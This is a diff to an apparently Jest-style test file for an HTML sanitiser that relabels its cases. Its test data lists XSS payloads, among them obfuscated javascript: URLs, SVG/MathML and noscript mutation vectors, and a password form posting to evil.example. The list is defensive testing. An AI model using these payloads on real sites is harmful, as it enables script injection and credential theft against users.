@@ -34,25 +34,25 @@ describe('a formatted note', () => {
   it.each([
     ['a script', '<p>a</p><script>alert(1)</script>'],
     ['a nested script', '<p>a</p><scr<script>ipt>alert(1)</scr</script>ipt>'],
-    ['an event', '<p onclick="alert(1)" onerror=alert(1)>a</p>'],
+    ['event handlers', '<p onclick="alert(1)" onerror=alert(1)>a</p>'],
     ['an image with an event handler', '<p>a</p><img src=x onerror=alert(1)>'],
     ['a link to a script', '<a href="javascript:alert(1)">a</a>'],
     ['a link to a script, written with entities', '<a href="jav&#x09;ascript&colon;alert(1)">a</a>'],
     ['a link to a script, with a control character', '<a href="\u0001javascript:alert(1)">a</a>'],
     ['a data URL', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
-    ['svg', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>'],
+    ['SVG', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>'],
     [
-      'mathml',
+      'MathML',
       '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>a',
     ],
-    ['a style', '<style>*{background:url(https://evil.example)}</style><p style="position:fixed;inset:0">a</p>'],
+    ['styles', '<style>*{background:url(https://evil.example)}</style><p style="position:fixed;inset:0">a</p>'],
     ['a frame', '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>a'],
     ['a form', '<form action="https://evil.example"><input name=password><button>a</button></form>'],
     ['a comment', '<!--><script>alert(1)</script-->a'],
     ['a template', '<template><script>alert(1)</script></template>a'],
-    ['a base', '<base href="https://evil.example/">a'],
+    ['a base URL', '<base href="https://evil.example/">a'],
     ['unclosed markup', '<p>a<img src="x" onerror="alert(1)"'],
-    ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</noscript>'],
+    ['a noscript element', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</noscript>'],
   ])('is cleaned of %s', (_, note) => {
     const clean = html(note)
     expect(clean).not.toMatch(
